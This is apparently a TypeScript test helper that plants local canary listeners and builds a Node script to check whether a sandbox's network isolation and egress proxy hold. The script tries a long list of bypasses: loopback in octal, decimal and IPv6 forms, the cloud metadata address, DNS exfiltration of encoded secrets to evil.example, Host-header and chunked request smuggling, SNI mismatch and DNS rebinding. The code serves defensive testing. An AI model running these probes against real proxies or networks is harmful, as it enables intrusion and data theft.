import { createSocket } from 'node:dgram';
import { createServer, type AddressInfo } from 'node:net';
import { networkInterfaces } from 'node:os';

/**
 * What nobody may reach from inside: this machine by TCP, UDP and an abstract socket. Each counts who came.
 */
export interface Canaries extends AsyncDisposable {
  readonly tcp: number;
  readonly udp: number;
  /** The name of the abstract socket, without the zero in front of it. */
  readonly abstract: string;
  /** An address of this machine that is not its loopback, where it has one. */
  readonly address: string;
  readonly visits: () => readonly string[];
}

export async function plantCanaries(): Promise<Canaries> {
  const visits: string[] = [];
  const tcp = createServer((socket) => {
    visits.push('tcp');
    socket.on('error', () => undefined).resume();
    socket.end('HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\ncanary');
  });
  await new Promise<void>((resolve) => tcp.listen({ port: 0, host: '::', ipv6Only: false }, resolve));
  const udp = createSocket('udp4', () => visits.push('udp'));
  await new Promise<void>((resolve) => udp.bind(0, '0.0.0.0', resolve));
  const name = `atlas-canary-${process.pid}-${Math.random().toString(36).slice(2)}`;
  const abstract = createServer((socket) => {
    visits.push('abstract');
    socket.on('error', () => undefined).resume();
    socket.end();
  });
  await new Promise<void>((resolve) => abstract.listen(`\0${name}`, resolve));
  const address = Object.values(networkInterfaces())
    .flatMap((list) => list ?? [])
    .find(({ family, internal }) => family === 'IPv4' && !internal)?.address;
  return {
    tcp: (tcp.address() as AddressInfo).port,
    udp: udp.address().port,
    abstract: name,
    address: address ?? '10.1.2.3',
    visits: () => visits,
    [Symbol.asyncDispose]: async () => {
      udp.close();
      await Promise.all([tcp, abstract].map(async (one) => await new Promise((resolve) => one.close(resolve))));
    },
  };
}

export interface AroundRequest {
  readonly canaries: Pick<Canaries, 'tcp' | 'udp' | 'abstract' | 'address'>;
  /** The socket of the proxy, as it lies on this machine. */
  readonly socket: string;
  /** A host that is permitted, where `ok` answers a plain request. */
  readonly permitted: string;
  /** A permitted host whose name leads to this machine from the second time on. */
  readonly rebinding: string;
}

/** What each way came to: what was heard, or why nothing was. */
export type AroundReport = Readonly<Record<string, string>>;

/** Heard from a way that is closed: nothing, or a refusal of the proxy. */
const CLOSED = /^(?:nothing: |HTTP\/1\.1 (?:400|403|502) )/;

/** The ways around, told apart by whether anything was heard. */
export function closedWays(report: AroundReport): {
  readonly open: readonly string[];
  readonly closed: readonly string[];
} {
  const { 'the open way': _open, ...ways } = report;
  const open = Object.entries(ways).filter(([, heard]) => !CLOSED.test(heard));
  return {
    open: open.map(([name, heard]) => `${name}: ${heard}`),
    closed: Object.keys(ways).filter((name) => !open.some(([one]) => one === name)),
  };
}

/**
 * A program for Node that tries every way out that it can think of, from inside, and prints what came of each as JSON.
 * The first is the way that is open, so that nothing passes for closed because all of it is.
 */
export function waysAround({ canaries, ...rest }: AroundRequest): string {
  const { tcp, udp, abstract, address } = canaries;
  return `const request = ${JSON.stringify({ ...rest, canaries: { tcp, udp, abstract, address } })};\n${SCRIPT}`;
}

const SCRIPT = String.raw`
const net = require('node:net'), tls = require('node:tls'), dgram = require('node:dgram'), dns = require('node:dns');
const http = require('node:http'), fs = require('node:fs'), { execFile } = require('node:child_process');
const { canaries: { tcp, udp, abstract, address }, socket, permitted, rebinding } = request;
const proxy = new URL(process.env.HTTP_PROXY ?? 'http://127.0.0.1:1');
const PATIENCE = 5000;
const within = (start) => new Promise((resolve) => {
  const timer = setTimeout(() => resolve('nothing: silence'), PATIENCE);
  const done = (text) => { clearTimeout(timer); resolve(String(text).slice(0, 200)); };
  try { start(done); } catch (error) { done('nothing: ' + error.message); }
});
/** Connects, says something, and tells what is heard until the other side ends or falls silent. */
const talk = (to, said) => within((done) => {
  let heard = '';
  const client = net.connect(to, () => { if (said !== undefined) client.write(said); });
  client.on('data', (chunk) => { heard += chunk.toString('latin1'); });
  client.on('error', (error) => done('nothing: ' + (error.code ?? error.message)));
  client.on('close', () => done(heard === '' ? 'nothing: closed' : heard));
  setTimeout(() => client.destroy(), PATIENCE - 200);
});
const byProxy = (said) => talk({ host: proxy.hostname, port: Number(proxy.port) }, said);
const get = (url, host) => byProxy('GET ' + url + ' HTTP/1.1\r\nHost: ' + host + '\r\nConnection: close\r\n\r\n');
const connect = (to) => byProxy('CONNECT ' + to + ' HTTP/1.1\r\nHost: ' + to + '\r\n\r\n');
const packet = (port, host, family = 'udp4') => within((done) => {
  const from = dgram.createSocket(family);
  from.on('error', (error) => done('nothing: ' + error.code));
  from.on('message', (message) => done('heard ' + message.length + ' bytes'));
  from.send('\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01', port, host, (error) => {
    if (error) done('nothing: ' + error.code);
  });
});
const greeting = (to, servername) => within((done) => {
  const raw = net.connect(Number(proxy.port), proxy.hostname, () => raw.write('CONNECT ' + to + ' HTTP/1.1\r\n\r\n'));
  raw.once('data', (head) => {
    if (!head.toString().startsWith('HTTP/1.1 200')) return done(head.toString());
    const client = tls.connect({ socket: raw, servername, rejectUnauthorized: false }, () => done('reached'));
    client.on('error', (error) => done('nothing: ' + (error.code ?? error.message)));
  });
  raw.on('error', (error) => done('nothing: ' + error.code));
});
const nameserver = (/^nameserver\s+(\S+)/m.exec(fs.readFileSync('/etc/resolv.conf', 'utf8')) ?? [])[1] ?? '8.8.8.8';
const unset = Object.fromEntries(Object.entries(process.env).filter(([name]) => !/proxy/i.test(name)));
// Beside the other ways: while this program waited for a child alone, it would hear none of them in time.
const child = (code, env) => new Promise((resolve) => {
  execFile(process.execPath, ['-e', code], { env, timeout: PATIENCE }, (error, heard) => resolve(error ? 'nothing: it failed' : heard));
});
const ways = {
  'the open way': () => get('http://' + permitted + '/', permitted),
  'this machine by its loopback': () => talk({ host: '127.0.0.1', port: tcp }),
  'this machine by name': () => talk({ host: 'localhost', port: tcp }),
  'this machine by its loopback of IPv6': () => talk({ host: '::1', port: tcp }),
  'this machine by its address': () => talk({ host: address, port: tcp }),
  'a public address': () => talk({ host: '1.1.1.1', port: 80 }),
  'a public address of IPv6': () => talk({ host: '2606:4700:4700::1111', port: 80 }),
  'a packet to this machine': () => packet(udp, '127.0.0.1'),
  'a packet to the address of this machine': () => packet(udp, address),
  'a question to its name server': () => packet(53, nameserver),
  'a question to a public name server': () => packet(53, '8.8.8.8'),
  'a question to a name server by TCP': () => talk({ host: nameserver, port: 53 }, '\0\0'),
  'the name of a host': () => within((done) => dns.lookup('secret.evil.example', (error, found) => done(error ? 'nothing: ' + error.code : found))),
  'no proxy variables': () => child("fetch('http://" + address + ":" + tcp + "').then(async (r) => console.log(await r.text()))", unset),
  'the socket of the proxy': () => talk({ path: socket }, 'GET http://' + permitted + '/ HTTP/1.1\r\n\r\n'),
  'an abstract socket': () => talk({ path: '\0' + abstract }),
  'the proxy, to this machine': () => connect('127.0.0.1:' + tcp),
  'the proxy, to this machine by name': () => connect('localhost:' + tcp),
  'the proxy, to its address': () => connect(address + ':' + tcp),
  'the proxy, to a number': () => connect('2130706433:' + tcp),
  'the proxy, in octal': () => get('http://0177.0.0.1:' + tcp + '/', '0177.0.0.1:' + tcp),
  'the proxy, in IPv6': () => connect('[::1]:' + tcp),
  'the proxy, in IPv6 that carries IPv4': () => connect('[::ffff:127.0.0.1]:' + tcp),
  'the proxy, to a private address': () => connect('192.168.0.1:80'),
  'the proxy, to the metadata of a cloud': () => get('http://169.254.169.254/latest/meta-data/', '169.254.169.254'),
  'the proxy, to another host': () => connect('evil.example:443'),
  'the proxy, with secrets in a name': () => connect('c2VjcmV0.evil.example:443'),
  'another host in the header': () => get('http://' + permitted + '/', 'evil.example'),
  'two hosts in the header': () => byProxy('GET http://' + permitted + '/ HTTP/1.1\r\nHost: ' + permitted + '\r\nHost: evil.example\r\n\r\n'),
  'a second request to another host': () => byProxy('GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\nGET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n'),
  'a request in a request': () => byProxy('POST http://' + permitted + '/ HTTP/1.1\r\nHost: ' + permitted + '\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://evil.example/ HTTP/1.1\r\n\r\n'),
  'another name in the greeting': () => greeting(permitted + ':443', 'evil.example'),
  'no name in the greeting': () => greeting(permitted + ':443'),
  'a login that looks like a host': () => connect(permitted + '@evil.example:443'),
  'a name that leads here the second time': async () => {
    await get('http://' + rebinding + ':' + tcp + '/', rebinding + ':' + tcp);
    return await get('http://' + rebinding + ':' + tcp + '/', rebinding + ':' + tcp);
  },
};
(async () => {
  const found = await Promise.all(Object.entries(ways).map(async ([name, go]) => [name, await go()]));
  console.log(JSON.stringify(Object.fromEntries(found)));
  process.exit(0);
})();
`;
